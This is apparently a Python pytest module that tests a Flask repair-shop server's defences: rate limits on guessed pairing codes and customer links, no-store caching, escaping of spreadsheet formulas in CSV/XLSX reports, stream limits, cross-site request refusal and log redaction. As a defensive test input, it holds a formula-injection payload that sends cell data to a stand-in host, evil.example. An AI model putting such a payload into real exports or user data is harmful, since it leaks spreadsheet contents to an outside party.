"""What an attacker on the shop's Wi-Fi tried, and what the server now answers.

* Guessing at pairing codes: after ``PAIRING_MISSES`` wrong codes an address cannot
  pair (429, in both languages), not even with a right code; another address can. The
  same for the SMS gateway's secret.
* Walking through made-up tokens of the customers' links: after ``PUBLIC_LINK_MISSES``
  misses an address gets 429 on every such page (even a real link) for a while; a link
  that works costs nothing, and another address is not affected.
* A page or answer with customers' details is never kept in a cache (``no-store``).
* A report's text typed as a spreadsheet formula (a complaint category) stays text in
  the CSV and the XLSX, and stays escaped on the page.
* One signed-in person cannot take every live-event stream of a process.
* The JSON API signed in by a manager's cookie refuses a write another site's page
  makes the browser send (a device's revoke); the same request from a script or the
  shop's own origin goes through.
* A crash's log line names neither the customer's link token nor, through a database
  error's text, the values of the statement (a plate, a name).

One app on SQLite for the module (the limits are per process, not per database).
"""

from __future__ import annotations

import csv
import io
import logging
import secrets
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from server_fixtures import PASSWORD, bearer
from sqlalchemy import text
from web_fixtures import csrf_token, make_visit, post_form

from sync_server import create_app, db
from sync_server.pairing import issue_code, redeem_code
from sync_server.people import create_user
from sync_server.public_links import is_public_link
from sync_server.shop_tables import DeviceRole, UserRole

MISSES = 5
PER_READER = 2
PAIRING_MISSES = 3


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory, sqlite_template: Path) -> Iterator[Flask]:
    folder = tmp_path_factory.mktemp("security")
    shutil.copyfile(sqlite_template, folder / "server.sqlite3")
    application = create_app(
        {
            "DATABASE_URL": f"sqlite:///{folder / 'server.sqlite3'}",
            "TESTING": True,
            "SECRET_KEY": "t",
            "PUBLIC_LINK_MISSES": MISSES,
            "PAIRING_MISSES": PAIRING_MISSES,
            "SMS_INBOUND_SECRET": "gateway-secret",
            "LIVE_MAX_STREAMS_PER_READER": PER_READER,
        }
    )
    with application.app_context():
        for username, role in (("boss", "manager"), ("amy", "advisor"), ("ben", "advisor")):
            create_user(db.session(), username, PASSWORD, UserRole(role), username.title())
    yield application
    application.extensions["db_engine"].dispose()


def signed_in(app: Flask, username: str) -> FlaskClient:
    client = app.test_client()
    answer = client.post(
        "/login",
        data={"username": username, "password": PASSWORD, "csrf_token": csrf_token(client)},
    )
    assert answer.status_code == 302, answer.get_data(as_text=True)
    return client


def from_address(app: Flask, address: str) -> FlaskClient:
    client = app.test_client()
    client.environ_base["REMOTE_ADDR"] = address
    return client


def test_guessing_at_customer_links_is_refused_per_address(app: Flask) -> None:
    # Every public view with a token in its address is guarded, whichever area adds it.
    guarded = {
        rule.rule
        for rule in app.url_map.iter_rules()
        if is_public_link(app, rule.endpoint, set(rule.arguments))
    }
    assert {"/status/<token>", "/approve/<token>", "/survey/<token>", "/book/<token>"} <= guarded
    assert {"/unsubscribe/<token>", "/status/<token>/not-right"} <= guarded

    made = make_visit(app)
    customer = from_address(app, "10.0.0.21")
    for _ in range(MISSES + 3):  # the customer's own link, opened again and again
        assert customer.get(f"/status/{made.status_token}").status_code == 200

    guesser = from_address(app, "10.0.0.66")
    guesses = [
        f"/status/{secrets.token_urlsafe(16)}",
        f"/survey/{secrets.token_urlsafe(32)}",
        f"/book/{secrets.token_urlsafe(24)}",
        f"/unsubscribe/{secrets.token_urlsafe(24)}",
        f"/approve/{secrets.token_urlsafe(40)}",
    ]
    assert [guesser.get(url).status_code for url in guesses] == [404] * MISSES
    refused = guesser.get(f"/status/{made.status_token}", headers={"Accept": "text/html"})
    assert refused.status_code == 429
    assert int(refused.headers["Retry-After"]) >= 60
    assert refused.headers["Cache-Control"] == "no-store"
    page = refused.get_data(as_text=True)
    assert "Too many links that do not exist" in page and "京A" not in page
    chinese = guesser.get(f"/survey/{'x' * 40}", headers={"Accept-Language": "zh-CN"})
    assert chinese.status_code == 429
    assert "此网络打开了过多不存在的链接" in chinese.get_data(as_text=True)
    # The customer at another address still sees their page.
    assert customer.get(f"/status/{made.status_token}").status_code == 200


def test_guessing_at_pairing_codes_is_refused_per_address(app: Flask) -> None:
    with app.app_context():
        code = issue_code(db.session(), DeviceRole("tablet"), device_name="Bay tablet").display
    guesser = from_address(app, "10.0.0.77")
    for guess in ("AAAA-AAAA", "BBBB-BBBB", "CCCC-CCCC")[:PAIRING_MISSES]:
        wrong = guesser.post("/api/v1/devices/pair", json={"code": guess})
        assert wrong.json["errors"][0]["code"] == "pairing_code_unknown"
    refused = guesser.post("/api/v1/devices/pair", json={"code": code})
    assert refused.status_code == 429 and int(refused.headers["Retry-After"]) >= 60
    error = refused.json["errors"][0]
    assert error["code"] == "pairing_attempts_exceeded"
    assert "配对码" in error["message_zh"] and "pairing codes" in error["message"]
    # The manager's tablet at another address pairs with the very same code.
    paired = from_address(app, "10.0.0.78").post("/api/v1/devices/pair", json={"code": code})
    assert paired.status_code == 201, paired.json

    # The SMS gateway's shared secret, guessed at the same way.
    sms = {"from": "+8613812345678", "text": "TD"}
    for guess in range(PAIRING_MISSES):
        wrong = guesser.post(
            "/api/v1/sms/inbound", json=sms, headers={"X-Inbound-Secret": f"{guess}"}
        )
        assert wrong.status_code == 403
    right = {"X-Inbound-Secret": "gateway-secret"}
    refused = guesser.post("/api/v1/sms/inbound", json=sms, headers=right)
    assert refused.status_code == 429
    assert refused.json["type"].endswith("/too-many-wrong-secrets")
    gateway = from_address(app, "10.0.0.79")
    assert gateway.post("/api/v1/sms/inbound", json=sms, headers=right).status_code == 200


def test_answers_with_customers_details_are_never_cached(app: Flask) -> None:
    made = make_visit(app, name="李雷", phone="+8613811112222", plate="京B22222")
    manager = signed_in(app, "boss")
    for url in (
        f"/visits/{made.visit_id}",
        f"/customers/{made.customer_id}",
        "/customers?q=2222",
        "/api/v1/customers?q=2222",
        "/board",
        "/reports/complaint-causes.csv",
    ):
        answer = manager.get(url)
        assert answer.status_code == 200, url
        assert answer.headers["Cache-Control"] == "no-store", url
    # What a view caches on purpose keeps its own rule (the car drawings, static files).
    for url in ("/diagram/top.svg", "/static/web/app.css"):
        answer = manager.get(url)
        assert "no-store" not in answer.headers.get("Cache-Control", ""), url
        answer.close()


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def test_report_text_typed_as_a_formula_stays_text(app: Flask) -> None:
    manager = signed_in(app, "boss")
    added = post_form(
        manager,
        "/complaints/settings/labels",
        {"kind": "category", "name_en": FORMULA, "name_zh": "@SUM(1+1)<b>粗</b>"},
        "/complaints/settings",
    )
    assert added.status_code == 302, added.get_data(as_text=True)[:500]
    page = manager.get("/complaints/new").get_data(as_text=True)
    category = _option_value(page, "HYPERLINK")
    made = make_visit(app, name="韩梅梅", phone="+8613833334444", plate="京C33333")
    received = post_form(
        manager,
        "/complaints/new",
        {
            "customer": made.customer_id,
            "visit": made.visit_id,
            "channel": "phone",
            "summary": "Scratch on the door",
            "category": category,
        },
        "/complaints/new",
    )
    assert received.status_code in (302, 303), received.get_data(as_text=True)[:500]

    rows = list(
        csv.reader(
            io.StringIO(manager.get("/reports/complaint-causes.csv").data.decode("utf-8-sig"))
        )
    )
    assert rows[1][0] == "'" + FORMULA
    sheet = load_workbook(io.BytesIO(manager.get("/reports/complaint-causes.xlsx").data)).active
    cell = sheet["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (FORMULA, "s", True)
    assert sheet["B2"].data_type == "s"  # "None yet": plain text, untouched

    manager.get("/lang/zh_CN")
    chinese = manager.get("/reports/complaint-causes.xlsx").data
    cell = load_workbook(io.BytesIO(chinese)).active["A2"]
    assert (cell.value, cell.data_type) == ("@SUM(1+1)<b>粗</b>", "s")
    reports = manager.get("/reports").get_data(as_text=True)
    assert "<b>粗</b>" not in reports and "&lt;b&gt;粗&lt;/b&gt;" in reports


def _option_value(page: str, label: str) -> str:
    before = page[: page.index(label)]
    return before[before.rindex('value="') + 7 :].split('"')[0]


def test_one_reader_cannot_take_every_live_stream(app: Flask) -> None:
    amy, ben = signed_in(app, "amy"), signed_in(app, "ben")
    streams = [amy.get("/board/events", buffered=False) for _ in range(PER_READER)]
    try:
        assert [s.status_code for s in streams] == [200] * PER_READER
        over = amy.get("/board/events")
        assert over.status_code == 429
        assert over.headers["Retry-After"] == "30"
        assert "already follows the shop live in 2 windows" in over.get_data(as_text=True)
        # Someone else still gets theirs; a tablet too.
        other = ben.get("/board/events", buffered=False)
        assert other.status_code == 200
        other.close()
        with app.app_context():
            token = redeem_code(db.session(), issue_code(db.session(), DeviceRole("tablet")).code)
        tablet = app.test_client().get(
            "/api/v1/events", headers=bearer(token.token), buffered=False
        )
        assert tablet.status_code == 200
        tablet.close()
        # A window closed: its place is free again.
        streams.pop().close()
        streams.append(amy.get("/board/events", buffered=False))
        assert streams[-1].status_code == 200
    finally:
        for stream in streams:
            stream.close()


def test_a_page_elsewhere_cannot_use_a_managers_cookie_on_the_api(app: Flask) -> None:
    with app.app_context():
        first = redeem_code(db.session(), issue_code(db.session(), DeviceRole("tablet")).code)
        second = redeem_code(db.session(), issue_code(db.session(), DeviceRole("tablet")).code)
    manager = app.test_client()
    signed = manager.post("/api/v1/auth/login", json={"username": "boss", "password": PASSWORD})
    assert signed.status_code == 200
    revoke = f"/api/v1/devices/{first.device.uid}/revoke"
    for headers in (
        {"Sec-Fetch-Site": "cross-site", "Origin": "http://evil.example"},
        {"Sec-Fetch-Site": "same-site", "Origin": "http://localhost:9001"},
        {"Origin": "http://evil.example"},  # an older browser: Origin only
    ):
        refused = manager.post(revoke, headers=headers)
        assert refused.status_code == 403, headers
        assert refused.json["type"].endswith("/cross-site-request")
    assert (
        app.test_client().get("/api/v1/devices/me", headers=bearer(first.token)).status_code == 200
    )
    # From the shop's own page, or a script with no browser headers: done.
    same = manager.post(revoke, headers={"Sec-Fetch-Site": "same-origin"})
    assert same.status_code == 200 and same.json["revoked_at"]
    script = manager.post(f"/api/v1/devices/{second.device.uid}/revoke")
    assert script.status_code == 200


def test_a_crash_logs_neither_the_link_token_nor_the_customers_details(
    app: Flask, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    made = make_visit(app, name="欧阳娜娜", phone="+8613855556666", plate="京D44444")

    def failing_write(plate: str) -> str:  # a fault deep in a page: a refused write
        db.session().execute(
            text("INSERT INTO vehicles (id, plate) VALUES (:id, :plate)"),
            {"id": made.vehicle_id, "plate": plate},
        )
        return plate

    monkeypatch.setattr("sync_server.web.status.mask_plate", failing_write)
    with caplog.at_level(logging.INFO):
        crashed = from_address(app, "10.0.0.31").get(f"/status/{made.status_token}")
    assert crashed.status_code == 500
    assert "IntegrityError" in caplog.text and "GET /status/<token>" in caplog.text
    for secret in (made.status_token, "京D44444", made.vehicle_id):
        assert secret not in caplog.text
